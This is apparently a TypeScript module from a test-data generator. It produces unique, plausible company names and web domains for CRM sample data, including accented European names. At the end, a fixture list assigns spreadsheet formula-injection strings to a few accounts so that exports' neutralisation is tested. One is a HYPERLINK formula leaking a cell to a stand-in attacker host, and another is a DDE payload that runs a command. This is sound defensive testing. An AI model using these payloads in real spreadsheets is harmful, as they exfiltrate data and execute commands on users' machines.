/**
 * Deterministic, plausible company names and web domains.
 *
 * Names must stay unique after the normalisation an importer would use to join deals to
 * accounts by name (case, punctuation, spacing, accents and legal suffix folded away), otherwise
 * a name-only deal row would have two true accounts. European accounts carry accented names
 * ("Société Lumière SA", "Müller Logistik GmbH") so that text encodings visibly matter.
 */
import type { Rng } from './random.js'
import type { Country, Industry } from './vocab.js'

const EN_FIRST = [
  'Acme',
  'Northwind',
  'Blue Harbor',
  'Summit',
  'Brightline',
  'Ironwood',
  'Redstone',
  'Clearpath',
  'Silverleaf',
  'Granite',
  'Keystone',
  'Lakeshore',
  'Pinnacle',
  'Cobalt',
  'Evergreen',
  'Harborview',
  'Maple',
  'Orion',
  'Riverbend',
  'Sterling',
  'Tidewater',
  'Vanguard',
  'Willow',
  'Apex',
  'Beacon',
  'Cedar',
  'Driftwood',
  'Elm Street',
  'Falcon',
  'Golden Gate',
  'Highland',
  'Juniper',
  'Kestrel',
  'Lighthouse',
  'Meridian',
  'Nimbus',
  'Oakridge',
  'Prairie',
  'Quarry',
  'Rainier',
  'Sapphire',
  'Trailhead',
  'Union',
  'Vertex',
  'Westfield',
  'Yellowstone',
  'Zephyr',
  'Café',
  'Bluebird',
  'Copper',
  'Dune',
  'Ember',
  'Fjord',
  'Glacier',
  'Horizon',
  'Indigo',
  'Jasper',
  'Lumen',
  'Mosaic',
  'Nova'
]
const EN_SECOND = [
  'Analytics',
  'Software',
  'Systems',
  'Health',
  'Logistics',
  'Labs',
  'Media',
  'Partners',
  'Capital',
  'Learning',
  'Retail',
  'Manufacturing',
  'Networks',
  'Solutions',
  'Data',
  'Cloud',
  'Payments',
  'Robotics',
  'Freight',
  'Studios',
  'Clinics',
  'Supply',
  'Realty',
  'Advisors',
  'Digital',
  'Foods',
  'Energy',
  'Security',
  'Commerce',
  'Works',
  'Dynamics',
  'Technologies',
  'Group',
  'Holdings'
]
const FR_FIRST = [
  'Société',
  'Lumière',
  'Étoile',
  'Château',
  'Crème',
  'Côte',
  'Forêt',
  'Rivière',
  'Hélène',
  'Benoît',
  'Mistral',
  'Provence',
  'Garçon',
  'Île',
  'Orée',
  'Théâtre'
]
const FR_SECOND = [
  'Générale',
  'Numérique',
  'Logistique',
  'Santé',
  'Médias',
  'Systèmes',
  'Conseil',
  'Données',
  'Éducation',
  'Finance',
  'Industrie',
  'Commerce'
]
const DE_FIRST = [
  'Müller',
  'Schön',
  'Bäcker',
  'Köhler',
  'Weiß',
  'Großmann',
  'Jäger',
  'Krüger',
  'Möller',
  'Schäfer',
  'Fuchs',
  'Lehmann',
  'Vogel',
  'Zimmermann',
  'Brückner',
  'Hölzl'
]
const DE_SECOND = [
  'Logistik',
  'Software',
  'Technik',
  'Gesundheit',
  'Medien',
  'Maschinenbau',
  'Handel',
  'Daten',
  'Bildung',
  'Finanz',
  'Werke',
  'Systeme'
]
const DISAMBIGUATORS = [
  'Group',
  'Labs',
  'Global',
  'Partners',
  'International',
  'Co-op',
  'Collective',
  'One',
  'North America',
  'Worldwide',
  'Ventures',
  'Industries',
  'Enterprises',
  'America',
  'Services',
  'Associates',
  'Brands',
  'Company',
  'HQ',
  'Direct'
]

const LEGAL_SUFFIXES: Record<Country, readonly string[]> = {
  US: ['Inc.', 'Inc.', 'LLC', 'Corp.', 'Co.', ''],
  CA: ['Inc.', 'Ltd.', ''],
  GB: ['Ltd', 'PLC', 'Ltd'],
  DE: ['GmbH', 'AG', 'GmbH & Co. KG'],
  FR: ['SA', 'SAS', 'SARL']
}

/** Folds a name the way a forgiving importer would, minus the legal suffix. */
export function nameKey(core: string): string {
  // Unicode normalisation is slow, and only the European names need it.
  const ascii = /^[\x20-\x7e]*$/.test(core)
    ? core
    : core
        .normalize('NFD')
        .replace(/[\u0300-\u036f]/g, '')
        .replace(/ß/g, 'ss')
  return ascii.toLowerCase().replace(/[^a-z0-9]/g, '')
}

function tld(country: Country, industry: Industry, rng: Rng): string {
  switch (country) {
    case 'CA':
      return '.ca'
    case 'GB':
      return '.co.uk'
    case 'DE':
      return '.de'
    case 'FR':
      return '.fr'
    default:
      if (industry === 'SaaS' || industry === 'FinTech') return rng.pick(['.com', '.com', '.io', '.ai'])
      return industry === 'Education' ? rng.pick(['.com', '.org']) : '.com'
  }
}

export interface CompanyName {
  /** Full legal-ish name as the CRM holds it, e.g. "Northwind Analytics, Inc.". */
  name: string
  /** Bare lower-case domain, e.g. "northwindanalytics.com". */
  domain: string
}

/** Hands out names that never collide (see module comment); keeps its own registry. */
export class NameFactory {
  private readonly used = new Set<string>()
  private readonly perLocale = new Map<string, number>()

  next(rng: Rng, country: Country, industry: Industry): CompanyName {
    const locale = country === 'FR' || country === 'DE' ? country : 'EN'
    const [first, second] = locale === 'FR' ? [FR_FIRST, FR_SECOND] : locale === 'DE' ? [DE_FIRST, DE_SECOND] : [EN_FIRST, EN_SECOND]
    const issued = this.perLocale.get(locale) ?? 0
    this.perLocale.set(locale, issued + 1)
    // Once a tier of names is half used, start at the next one; retrying into a nearly full
    // tier made large exports spend most of their time here.
    const plain = first.length * second.length
    let attempt = issued < plain / 2 ? 0 : issued < (plain * DISAMBIGUATORS.length) / 2 ? 3 : 6
    let core = ''
    let key = ''
    for (; ; attempt++) {
      core = `${rng.pick(first)} ${rng.pick(second)}`
      if (attempt >= 3) core += ` ${rng.pick(DISAMBIGUATORS)}`
      // Past some tens of thousands of accounts the word lists run out; a number keeps names unique.
      if (attempt >= 6) core += ` ${rng.int(2, 99 + Math.ceil(issued / plain) * 10 * attempt)}`
      key = nameKey(core)
      if (!this.used.has(key)) break
    }
    this.used.add(key)
    const suffix = rng.pick(LEGAL_SUFFIXES[country])
    // US convention puts a comma before "Inc."; the comma is what name-only joins trip over.
    const name = suffix === '' ? core : country === 'US' && suffix === 'Inc.' ? `${core}, ${suffix}` : `${core} ${suffix}`
    return { name, domain: key + tld(country, industry, rng) }
  }
}

/**
 * Names that a spreadsheet would run as formulas if an export wrote them as they are (formula
 * injection), given to a few fixed accounts so every export's neutralisation is exercised by
 * the sample data. By account index; the name drawn for that account is replaced, so the
 * random streams (and every other account) are unchanged.
 */
export const FORMULA_INJECTION_NAMES: ReadonlyMap<number, string> = new Map([
  [5, '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for invoice")'],
  [12, '+1 Mobile Ventures'],
  [27, '-2 Degrees Analytics'],
  [44, '@SUM(1+1) Holdings'],
  [63, "=cmd|' /C calc'!A0"]
])

export const CLIENT_NAMES = ['Acme Corp', 'Brightwave Software', 'Quantive', 'Loopline', 'Pipedream Analytics', 'Stackwise'] as const
